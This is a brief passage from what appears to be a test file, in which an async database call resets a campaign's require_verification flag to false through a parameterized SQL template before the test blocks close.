      await t.platform.db.execute(
        sql`UPDATE campaigns SET require_verification = false WHERE id = ${campaignId}`,
      );
    }
  });
});
